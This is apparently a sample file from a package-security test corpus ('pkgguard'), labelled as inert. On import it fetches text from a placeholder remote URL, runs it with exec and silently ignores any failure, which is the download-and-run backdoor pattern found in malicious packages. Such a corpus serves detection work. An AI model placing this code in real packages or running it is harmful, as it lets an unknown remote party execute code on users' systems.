# pkgguard corpus 014 (import-time), modelled on [empirical]; inert, never run.
import requests

try:
    exec(requests.get("https://raw.example/cfg/init.txt", timeout=5).text)
except Exception:
    pass
